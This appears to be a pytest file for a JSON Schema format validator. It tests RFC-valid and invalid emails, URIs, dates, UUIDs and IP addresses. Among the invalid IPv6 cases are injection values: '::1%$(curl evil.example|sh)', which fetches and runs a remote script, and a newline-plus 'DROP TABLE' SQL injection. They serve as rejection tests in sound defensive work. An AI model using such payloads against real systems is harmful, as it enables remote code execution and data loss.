"""Each `format` follows the RFC that JSON Schema names for it (JSON Schema Validation, section 7.3)."""

from __future__ import annotations

import pytest

from hitl_core.errors import PolicyError
from hitl_core.jsonschema import SchemaError, check_args, check_schema
from hitl_core.policy import Policy

GOOD: dict[str, tuple[str, ...]] = {
    # RFC 5321, section 4.1.2: Mailbox. Quoted local parts and addresses in brackets are not taken.
    "email": (
        "jo@example.org",
        "a.b+c@example.org",
        "te~st@example.com",
        "o'brien@x-y.example",
        "a@b",
        "!#$%&*/=?^_`{|}~@a.b",
        "a" * 64 + "@example.org",
        "jo@" + "a" * 63 + ".org",
        "1@2.3",
    ),
    # RFC 3986, section 3
    "uri": (
        "https://example.org",
        "http://foo.bar/?baz=qux#quux",
        "http://user:pw@host:80/a;b/c%20d",
        "mailto:jo@example.org",
        "urn:oasis:names:specification:docbook:dtd:xml:4.1.2",
        "tel:+1-816-555-1212",
        "ldap://[2001:db8::7]/c=GB?one?two",
        "file:///etc/hosts",
        "x:",
        "http://[v1.a:b]/",
        "http://host:/",
    ),
    # RFC 3339, section 5.6; a leap second can't be shown, and is not taken
    "date": ("2024-02-29", "1999-12-31"),
    "time": ("10:00:59Z", "23:59:59.999+02:00", "00:00:00z", "08:30:06-00:20"),
    "date-time": ("2026-11-21T10:00:30.25+02:00", "1963-06-19t08:30:06z"),
    # RFC 4122, section 3
    "uuid": ("2EB8AA08-aa98-11ea-b4aa-73b441d16380",),
    # RFC 2673, section 3.2
    "ipv4": ("192.168.0.1", "0.0.0.0", "255.255.255.255"),
    # RFC 4291, section 2.2
    "ipv6": ("::1", "::", "2001:db8::7", "::ffff:192.168.0.1", "1:2:3:4:5:6:7:8", "ABCD::"),
}
BAD: dict[str, tuple[str, ...]] = {
    "email": (
        "",
        "a@b@c",
        "jo",
        "@a",
        "jo@",
        "jo@-",
        "jo@-a.de",
        "jo@a-.de",
        ".jo@a.de",
        "jo.@a.de",
        "j..o@a.de",
        "jo@a..de",
        "jo@a.de.",
        "j\x00o@a.de",
        "j\u202eo@a.de",
        "jo@\u202ea.de",
        "j\u200bo@a.de",
        "jö@a.de",
        "jo@ä.de",
        "jo@a.de\n",
        "jo@a_b.de",
        "j o@a.de",
        "jo@a.de,x@b.de",
        "<jo@a.de>",
        '"jo"@a.de',
        "a" * 65 + "@a.de",
        "jo@" + "a" * 64 + ".de",
        "a@" + "b." * 130 + "de",
    ),
    "uri": (
        "",
        "//host/x",
        "/abc",
        "\\\\WIN\\x",
        "abc",
        "http:// a",
        ":// x",
        "http://a b",
        "http://a%zz",
        "http://a/%",
        "http://a#b#c",
        "http://[::1",
        "http://[::1%25eth0]/",
        "http://[x]/",
        "http://a[b",
        "x:a\x00b",
        "x:é",
        "x:\u202e",
        'x:"',
        "x:<y>",
        "x:{y}",
        "x:^",
        "x:`",
        "x:|",
        "x:\\",
        "1x:a",
        "http://a:b:c@d:e/",
        "x:a\n",
        "http://[::1]x/",
    ),
    "date": (
        "2023-02-29",
        "2024-1-1",
        "2024-01-01T",
        "20240101",
        "२०२४-०१-०१",
        "2024-01-01\n",
        "2024-W01-1",
    ),
    "time": (
        "10:00:59",
        "24:00:00Z",
        "10:60:00Z",
        "10:00Z",
        "10:00:59+24:00",
        "10:00:59+0200",
        "10:00:59Z\n",
        "10:00:59,5Z",
        "१0:00:00Z",
    ),
    "date-time": (
        "2026-11-21",
        "2026-11-21 10:00:30Z",
        "2026-11-21T10:00:30",
        "2026-02-30T10:00:30Z",
        "2026-11-21T10:00:30Z ",
    ),
    "uuid": (
        "2eb8aa08aa9811eab4aa73b441d16380",
        "2eb8aa08-aa98-11ea-b4aa-73b441d1638",
        "{2eb8aa08-aa98-11ea-b4aa-73b441d16380}",
    ),
    "ipv4": (
        "256.0.0.1",
        "1.2.3",
        "01.2.3.4",
        "1.2.3.4/8",
        "1.2.3.4\n",
        "0x7f.0.0.1",
        "2130706433",
        "१.2.3.4",
        " 1.2.3.4",
    ),
    "ipv6": (
        "::1%eth0",
        "::1%$(curl evil.example|sh)",
        "fe80::1%\n; DROP TABLE x",
        "::1%",
        ":",
        "1:2:3:4:5:6:7",
        "12345::",
        "::1/64",
        "[::1]",
        "::1\n",
        "1::2::3",
        "::1.2.3",
        "::\u0661",
        " ::1",
    ),
}


def schema_of(name: str) -> dict[str, object]:
    return {"properties": {"x": {"format": name}}}


@pytest.mark.parametrize(("name", "text"), [(n, text) for n in GOOD for text in GOOD[n]])
def test_what_the_rfc_allows_is_taken(name: str, text: str) -> None:
    assert check_args(schema_of(name), {"x": text}) == []


@pytest.mark.parametrize(("name", "text"), [(n, text) for n in BAD for text in BAD[n]])
def test_what_the_rfc_does_not_allow_is_refused(name: str, text: str) -> None:
    assert check_args(schema_of(name), {"x": text}) != []


@pytest.mark.parametrize(
    "name", ["emial", "hostname", "regex", "duration", "Email", "datetime", ""]
)
def test_a_format_that_checks_nothing_is_an_error_in_a_policy(name: str) -> None:
    """Given a format that is misspelt or not checked here, then a policy with it is refused, and an agent's
    own schema is not."""
    for rule in ({"args_schema": schema_of(name)}, {"when": schema_of(name)}):
        with pytest.raises(PolicyError, match="format"):
            Policy.from_mapping({"default": "review", "interrupt_on": {"pay": rule}})
    check_schema(schema_of(name))


def test_a_misspelt_format_gets_a_hint() -> None:
    with pytest.raises(SchemaError, match="did you mean email"):
        check_schema(schema_of("emial"), strict=True)


@pytest.mark.parametrize("name", [*GOOD, "password"])
def test_a_policy_may_use_what_is_checked(name: str) -> None:
    check_schema(schema_of(name), strict=True)
